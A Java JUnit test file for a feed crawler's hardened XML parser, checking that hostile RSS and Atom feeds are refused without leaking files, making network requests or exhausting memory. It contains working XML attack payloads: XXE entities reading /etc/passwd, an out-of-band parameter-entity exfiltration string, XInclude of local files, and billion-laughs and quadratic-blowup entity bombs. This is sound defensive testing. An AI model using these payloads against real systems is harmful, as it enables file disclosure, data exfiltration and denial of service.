package dev.tributary.crawler.parse;

import static dev.tributary.crawler.parse.Testdata.FEED_URL;
import static dev.tributary.crawler.parse.Testdata.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import dev.tributary.crawler.parse.FeedFormatException.Reason;
import com.rometools.rome.io.ParsingFeedException;
import com.rometools.rome.io.WireFeedInput;
import dev.tributary.storage.testing.Await;
import java.io.IOException;
import java.io.StringReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;
import org.jdom2.JDOMException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A hostile feed yields a {@link FeedFormatException}, never a file's contents, never an outbound
 * request, never a blown heap. A local server counts every connection the parser might make.
 */
class XmlSecurityTest {

    private static final String SECRET = "TOP-SECRET-7f3a9c";

    private final FeedParser parser = new FeedParser();
    private final AtomicInteger connections = new AtomicInteger();
    private ServerSocket server;
    private String serverUrl;

    @BeforeEach
    void startCountingServer() throws IOException {
        server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        serverUrl = "http://127.0.0.1:" + server.getLocalPort();
        Thread.ofVirtual().start(() -> {
            while (!server.isClosed()) {
                try (Socket socket = server.accept()) {
                    connections.incrementAndGet();
                } catch (IOException closed) {
                    return;
                }
            }
        });
    }

    @AfterEach
    void stopServer() throws IOException {
        server.close();
    }

    @Test
    void xxeReferencingEtcPasswdIsRefusedAndLeaksNothing() {
        String xxe = """
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
                <rss version="2.0"><channel><title>&xxe;</title><link>https://example.com/</link><description>&xxe;</description>
                <item><title>&xxe;</title><description>&xxe;</description><guid>&xxe;</guid></item></channel></rss>""";

        Throwable thrown = catchThrowable(() -> parser.parse(utf8(xxe), "application/rss+xml", FEED_URL));

        assertRefusedWithout(thrown, "root:", Reason.FORBIDDEN_DTD);
    }

    @Test
    void xxeReferencingAFileIsRefusedAndLeaksNothing(@TempDir Path dir) throws IOException {
        Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
        List<String> attacks = List.of(
                "<!DOCTYPE feed [ <!ENTITY xxe SYSTEM \"" + secret.toUri() + "\"> ]>"
                        + "<feed xmlns=\"http://www.w3.org/2005/Atom\"><title>&xxe;</title><entry><id>&xxe;</id><title>&xxe;</title></entry></feed>",
                "<!DOCTYPE rss SYSTEM \"" + secret.toUri() + "\"><rss version=\"2.0\"><channel><title>t</title></channel></rss>",
                // Netscape's public id with a hostile system id and an internal subset: not the harmless form, refused.
                "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"" + secret.toUri() + "\" "
                        + "[ <!ENTITY xxe SYSTEM \"" + secret.toUri() + "\"> ]><rss version=\"0.91\"><channel><title>&xxe;</title></channel></rss>");

        for (String attack : attacks) {
            assertRefusedWithout(catchThrowable(() -> parser.parse(utf8(attack), null, FEED_URL)), SECRET, Reason.FORBIDDEN_DTD);
        }
    }

    @Test
    void externalDtdsParameterEntitiesAndExternalEntitiesMakeNoRequest() throws Exception {
        List<String> attacks = List.of(
                "<?xml version=\"1.0\"?><!DOCTYPE rss SYSTEM \"" + serverUrl + "/evil.dtd\"><rss version=\"2.0\"><channel><title>t</title></channel></rss>",
                "<!DOCTYPE rss [ <!ENTITY % remote SYSTEM \"" + serverUrl + "/param.dtd\"> %remote; ]><rss version=\"2.0\"><channel/></rss>",
                "<!DOCTYPE rss [ <!ENTITY % file SYSTEM \"file:///etc/hostname\"> <!ENTITY % send \"<!ENTITY exfil SYSTEM '"
                        + serverUrl + "/?%file;'>\"> %send; ]><rss version=\"2.0\"><channel><title>&exfil;</title></channel></rss>",
                "<!DOCTYPE rss [ <!ENTITY ext SYSTEM \"" + serverUrl + "/ext\"> ]><rss version=\"2.0\"><channel><title>&ext;</title></channel></rss>",
                "<!DOCTYPE rss PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"" + serverUrl + "/xhtml1-strict.dtd\"><rss version=\"2.0\"/>");

        for (String attack : attacks) {
            assertThatThrownBy(() -> parser.parse(utf8(attack), "application/rss+xml", FEED_URL))
                    .as(attack)
                    .isInstanceOfSatisfying(FeedFormatException.class, e -> assertThat(e.reason()).isEqualTo(Reason.FORBIDDEN_DTD));
        }
        assertNoConnectionWasMade();
    }

    @Test
    void netscapesDtdIsCutOutNotFetchedEvenWhenItsSystemIdPointsSomewhere() throws Exception {
        String feed = "<!DOCTYPE rss PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"" + serverUrl + "/rss-0.91.dtd\">"
                + "<rss version=\"0.91\"><channel><title>t</title><link>https://example.com/</link><description>d</description>"
                + "<language>en</language><item><title>ok</title><link>https://example.com/1</link></item></channel></rss>";

        assertThat(parser.parse(utf8(feed), null, FEED_URL).entries()).hasSize(1);
        assertNoConnectionWasMade();
    }

    @Test
    void xincludeStylesheetsAndSchemaLocationsAreNotFollowed(@TempDir Path dir) throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), SECRET);
        String feed = "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"" + serverUrl + "/style.xsl\"?>"
                + "<rss version=\"2.0\" xmlns:xi=\"http://www.w3.org/2001/XInclude\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\""
                + " xsi:schemaLocation=\"urn:x " + serverUrl + "/schema.xsd\"><channel><title>t</title><link>https://example.com/</link>"
                + "<description>d</description><item><title>x</title><description>a<xi:include href=\"" + secret.toUri()
                + "\" parse=\"text\"/><xi:include href=\"" + serverUrl + "/include\" parse=\"text\"/></description></item></channel></rss>";

        ParsedFeed parsed = parser.parse(utf8(feed), "application/rss+xml", FEED_URL);

        assertThat(parsed.toString()).doesNotContain(SECRET);
        assertNoConnectionWasMade();
    }

    @Test
    @Timeout(10)
    void billionLaughsIsRefusedWithoutExpanding() {
        StringBuilder entities = new StringBuilder("<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            String previous = i == 1 ? "lol" : "lol" + (i - 1);
            entities.append("<!ENTITY lol").append(i).append(" \"").append(("&" + previous + ";").repeat(10)).append("\">");
        }
        String bomb = "<?xml version=\"1.0\"?><!DOCTYPE rss [" + entities + "]>"
                + "<rss version=\"2.0\"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>";

        assertThatThrownBy(() -> parser.parse(utf8(bomb), "application/rss+xml", FEED_URL))
                .isInstanceOfSatisfying(FeedFormatException.class, e -> assertThat(e.reason()).isEqualTo(Reason.FORBIDDEN_DTD));
    }

    @Test
    @Timeout(10)
    void quadraticBlowupIsRefusedWithoutExpanding() {
        String bomb = "<!DOCTYPE rss [<!ENTITY a \"" + "x".repeat(100_000) + "\">]><rss version=\"2.0\"><channel><title>"
                + "&a;".repeat(50_000) + "</title></channel></rss>";

        assertThatThrownBy(() -> parser.parse(utf8(bomb), null, FEED_URL))
                .isInstanceOfSatisfying(FeedFormatException.class, e -> assertThat(e.reason()).isEqualTo(Reason.FORBIDDEN_DTD));
    }

    @Test
    void theDocumentBuilderItselfRefusesEveryDoctype() throws Exception {
        // Independent of the prolog check: should a DOCTYPE get past it, the parser still says no.
        HardenedXml xml = new HardenedXml(FeedParser.DEFAULT_MAX_XML_NODES);

        assertThatThrownBy(() -> xml.build("<!DOCTYPE a [<!ENTITY e \"x\">]><a>&e;</a>")).isInstanceOf(JDOMException.class);
        assertThatThrownBy(() -> xml.build("<!DOCTYPE a SYSTEM \"" + serverUrl + "/a.dtd\"><a/>")).isInstanceOf(JDOMException.class);
        assertNoConnectionWasMade();
    }

    @Test
    void romesOwnInputRefusesDoctypesByDefaultToo() {
        // What Rome 2.1 does unconfigured (allowDoctypes=false sets disallow-doctype-decl); recorded here
        // so that a Rome upgrade changing it is noticed, though HardenedXml no longer relies on it.
        WireFeedInput input = new WireFeedInput();

        assertThat(input.isAllowDoctypes()).isFalse();
        assertThatThrownBy(() -> input.build(new StringReader("<!DOCTYPE rss [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>"
                + "<rss version=\"2.0\"><channel><title>&xxe;</title></channel></rss>"))).isInstanceOf(ParsingFeedException.class);
    }

    @Test
    void theDocumentBuilderCapsElementDepth() {
        HardenedXml xml = new HardenedXml(FeedParser.DEFAULT_MAX_XML_NODES);
        int depth = HardenedXml.MAX_ELEMENT_DEPTH + 1;

        assertThatThrownBy(() -> xml.build("<a>".repeat(depth) + "</a>".repeat(depth))).isInstanceOf(JDOMException.class);
    }

    private void assertRefusedWithout(Throwable thrown, String secret, Reason reason) {
        assertThat(thrown).isInstanceOfSatisfying(FeedFormatException.class, e -> assertThat(e.reason()).isEqualTo(reason));
        List<String> messages = new ArrayList<>();
        for (Throwable t = thrown; t != null; t = t.getCause() == t ? null : t.getCause()) {
            messages.add(String.valueOf(t.getMessage()));
        }
        assertThat(messages).noneMatch(message -> message.contains(secret));
    }

    private void assertNoConnectionWasMade() throws IOException {
        // A request would have been made during parsing, so before this probe: the accept loop takes
        // connections in order, and once it has counted the probe any earlier one is counted too.
        try (Socket probe = new Socket(InetAddress.getLoopbackAddress(), server.getLocalPort())) {
            // Not failing here: the count is asserted below, where a miss says what it means.
            Await.within(Duration.ofSeconds(5), () -> connections.get() > 0);
        }
        assertThat(connections).as("connections besides the probe").hasValue(1);
    }
}
